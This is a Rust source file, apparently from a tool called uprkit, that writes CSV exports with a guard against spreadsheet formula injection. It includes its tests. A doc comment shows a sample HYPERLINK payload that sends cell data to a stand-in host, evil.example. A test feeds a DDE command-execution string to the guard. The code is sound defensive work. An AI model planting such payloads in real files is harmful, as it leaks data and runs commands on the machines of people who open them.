//! CSV for spreadsheets and scripts: UTF-8 with a byte-order mark, CRLF line ends, one field
//! per column, lists joined with "; ".
//!
//! [`CsvWriter`] is the one way uprkit writes a CSV (exports, the audit log, command-line
//! output): every text field goes through the formula guard, wherever the CSV is for.

use super::ExportError;
use super::columns::{Cell, RowBuilder};
use std::borrow::Cow;
use std::io::Write;

/// Excel reads a CSV without a BOM in the machine's legacy code page, which garbles every
/// accented State name ("Côte d'Ivoire", "Türkiye"); with the BOM it reads UTF-8.
const UTF8_BOM: &[u8] = b"\xEF\xBB\xBF";

/// A CSV writer whose text fields are always guarded against formula injection
/// ([`guard_formula`]).
pub struct CsvWriter<W: Write> {
    writer: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// For a file people open in a spreadsheet: byte-order mark and CRLF line ends.
    pub fn for_spreadsheets(mut out: W) -> Result<Self, ExportError> {
        out.write_all(UTF8_BOM)?;
        // RFC 4180 line ends; Excel on every platform reads them.
        let writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(out);
        Ok(Self { writer })
    }

    /// For a script's standard output: no byte-order mark, LF line ends (still guarded: the
    /// output is often saved and opened in a spreadsheet).
    pub fn plain(out: W) -> Self {
        Self { writer: csv::Writer::from_writer(out) }
    }

    /// Writes one record of text fields, each guarded.
    pub fn write_texts<I, T>(&mut self, fields: I) -> Result<(), ExportError>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for field in fields {
            self.writer.write_field(guard_formula(field.as_ref()).as_bytes())?;
        }
        // An empty record ends the one built field by field.
        self.writer.write_record(None::<&[u8]>)?;
        Ok(())
    }

    /// Writes one row of typed cells: text guarded, numbers as they are.
    pub(crate) fn write_cells(&mut self, cells: &[Cell]) -> Result<(), ExportError> {
        for cell in cells {
            match cell {
                Cell::Number(n) => self.writer.write_field(n.to_string())?,
                Cell::Text(s) => self.writer.write_field(guard_formula(s).as_bytes())?,
                Cell::Empty => self.writer.write_field("")?,
            }
        }
        self.writer.write_record(None::<&[u8]>)?;
        Ok(())
    }

    /// Flushes and hands back the output.
    pub fn finish(self) -> Result<W, ExportError> {
        self.writer.into_inner().map_err(|e| ExportError::Io(e.into_error()))
    }
}

/// Writes recommendation rows to a CSV as they come.
pub(crate) struct CsvSink<W: Write> {
    writer: CsvWriter<W>,
}

impl<W: Write> CsvSink<W> {
    /// Writes the BOM and the header.
    pub fn new(out: W) -> Result<Self, ExportError> {
        let mut writer = CsvWriter::for_spreadsheets(out)?;
        writer.write_texts(RowBuilder::header())?;
        Ok(Self { writer })
    }

    /// Writes one row.
    pub fn write_row(&mut self, cells: &[Cell]) -> Result<(), ExportError> {
        self.writer.write_cells(cells)
    }

    /// Flushes and hands back the output.
    pub fn finish(self) -> Result<W, ExportError> {
        self.writer.finish()
    }
}

/// Guards a text field against CSV ("formula") injection.
///
/// A spreadsheet that opens a CSV treats a cell starting with `=`, `+`, `-` or `@` as a
/// formula, and a tab or carriage return at the start can smuggle one past a first check.
/// Recommendation texts, issue names and sources come from outside sources and from users,
/// so a crafted value such as `=HYPERLINK("http://evil.example/?"&A1, "Details")` would run
/// on the machine of whoever opens the export. A leading apostrophe makes the spreadsheet
/// show the value as plain text (it hides the apostrophe).
///
/// Only text fields are guarded: numbers (ids, cycles, sessions, action categories) are
/// written by uprkit from integers, and an apostrophe there would turn them into text. The
/// cost is that a script reading the CSV sees the apostrophe on the rare text that starts
/// with one of these characters; it can strip a leading `'` that precedes one of them.
pub fn guard_formula(value: &str) -> Cow<'_, str> {
    match value.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{value}")),
        _ => Cow::Borrowed(value),
    }
}

#[cfg(test)]
mod tests {
    use super::{CsvWriter, guard_formula};

    #[test]
    fn every_text_field_is_guarded() {
        let mut w = CsvWriter::for_spreadsheets(Vec::new()).expect("writer");
        w.write_texts(["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "plain"]).expect("row");
        let out = String::from_utf8(w.finish().expect("finish")).expect("utf-8");
        assert_eq!(out, "\u{feff}'=cmd|' /C calc'!A0,'+1,'-1,'@SUM(A1),'\t=1,\"'\r=1\",plain\r\n");
    }

    #[test]
    fn guards_only_formula_starts() {
        assert_eq!(guard_formula("=1+1"), "'=1+1");
        assert_eq!(guard_formula("+33 1 23"), "'+33 1 23");
        assert_eq!(guard_formula("-2"), "'-2");
        assert_eq!(guard_formula("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(guard_formula("\t=1"), "'\t=1");
        assert_eq!(guard_formula("\r=1"), "'\r=1");
        assert_eq!(guard_formula("Ratify the Convention"), "Ratify the Convention");
        assert_eq!(guard_formula("a=b"), "a=b");
        assert_eq!(guard_formula(""), "");
    }
}
